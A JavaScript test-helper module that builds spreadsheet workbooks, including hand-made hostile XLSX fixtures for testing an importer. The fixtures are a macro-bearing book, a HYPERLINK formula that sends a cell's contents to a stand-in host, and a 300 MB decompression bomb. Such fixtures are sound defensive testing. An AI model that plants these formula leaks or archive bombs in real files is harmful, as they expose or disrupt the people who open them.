// Workbooks for tests: made and read by the program's own helper.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { zip } from './traces.mjs';

const SHEET = process.env.HUIYIN + '-sheet';
const escape = (s) => String(s ?? '').replaceAll('\\', '\\\\').replaceAll('\t', '\\t').replaceAll('\n', '\\n').replaceAll('\r', '\\r');
const back = (s) => s.replace(/\\([tnr\\])/g, (_, c) => ({ t: '\t', n: '\n', r: '\r', '\\': '\\' })[c]);

function helper(args, input) {
	const done = spawnSync(SHEET, args, { input, maxBuffer: 64 * 1024 * 1024 });
	assert.equal(done.error, undefined);
	return done.stdout;
}

// rows: arrays of texts.
export function workbook(rows, name = '台账') {
	const width = Math.max(...rows.map((r) => r.length));
	const lines = ['huiyin-sheet 1', `sheet\t${name}`, `columns${'\tt:12'.repeat(width)}`];
	rows.forEach((r, i) => lines.push(['row', i + 1, ...r.map(escape)].join('\t')));
	const made = helper(['write'], [...lines, 'end', ''].join('\n'));
	assert.equal(made.subarray(0, 2).toString(), 'PK');
	return made;
}

export function rowsOf(bytes) {
	return helper(['read'], bytes).toString().split('\n').filter((l) => l.startsWith('row\t')).map((l) => l.split('\t').slice(2).map(back));
}

export const csv = (rows) => rows.map((r) => r.map((c) => `"${String(c ?? '').replaceAll('"', '""')}"`).join(',')).join('\r\n') + '\r\n';

// -- workbooks nobody's program of ours would write

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n', OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relations = (type, target) => `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}"/></Relationships>`;
const escaped = (s) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const cellOf = (c) => (c.startsWith('=') ? `<c><f>${escaped(c.slice(1))}</f><v>1</v></c>` : `<c t="inlineStr"><is><t>${escaped(c)}</t></is></c>`);

// rows: texts; what begins with = is a formula. parts: more of the archive; pad: spaces behind the rows.
export function rawBook(rows, parts = [], pad = 0) {
	return zip([
		['[Content_Types].xml', `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`],
		['_rels/.rels', relations('officeDocument', 'xl/workbook.xml')],
		['xl/workbook.xml', `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>`],
		['xl/_rels/workbook.xml.rels', relations('worksheet', 'worksheets/sheet1.xml')],
		['xl/worksheets/sheet1.xml', Buffer.from(`${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows.map((r) => `<row>${r.map(cellOf).join('')}</row>`).join('')}${' '.repeat(pad)}</sheetData></worksheet>`)],
		...parts,
	]);
}

export const macroBook = () => rawBook([['编号', '反馈问题（原文）'], ['1', '问题一']], [['xl/vbaProject.bin', 'macro']]);
export const formulaBook = () => rawBook([['编号', '反馈问题（原文）', '备注'], ['901', '公式问题一', '=HYPERLINK("http://example.invalid/?"&B2,"x")']]);
// 300 MB of spaces, packed into a few hundred kilobytes.
export const bombBook = () => rawBook([['编号', '反馈问题（原文）'], ['1', '问题一']], [], 300 * 1024 * 1024);
